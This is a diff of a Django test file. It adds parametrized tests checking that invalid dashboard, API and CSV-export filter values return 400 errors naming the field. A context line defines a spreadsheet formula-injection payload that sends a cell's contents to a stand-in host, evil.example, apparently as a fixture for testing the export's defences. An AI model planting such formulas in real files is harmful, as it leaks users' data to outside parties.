@@ -95,6 +95,23 @@ def test_the_docs_start_up_script_is_a_file(client, analyst):
     assert "SwaggerUIBundle" in response.content.decode()
 
 
+@pytest.mark.django_db
+@pytest.mark.parametrize("query,message", [
+    ({"iterations": ""}, "iterations must be a whole number, and it was empty (the Bootstrap iterations box)"),
+    ({"seed": "-1"}, "seed must be between 0 and 4294967295, got &#x27;-1&#x27; (the Seed box)"),
+    ({"run": str(2**70)}, "run must be between 1 and 9223372036854775807"),
+    ({"choices": "abc"}, "choices must be a whole number, got &#x27;abc&#x27; (the Choices box)"),
+])
+def test_a_bad_filter_is_a_400_that_names_the_box_page_and_api(client, analyst, query, message):
+    client.force_login(analyst)
+    page = client.get(reverse("analysis-dashboard"), query)
+    assert page.status_code == 400 and message in page.content.decode()
+    api = client.get(reverse("api-analysis"), query)
+    field = next(iter(query))
+    assert api.status_code == 400 and list(api.json()) == [field] and api.json()[field][0].startswith(field + " ")
+    assert client.get(reverse("analysis-answers-csv"), query).status_code == 400
+
+
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"rates")'
 
 
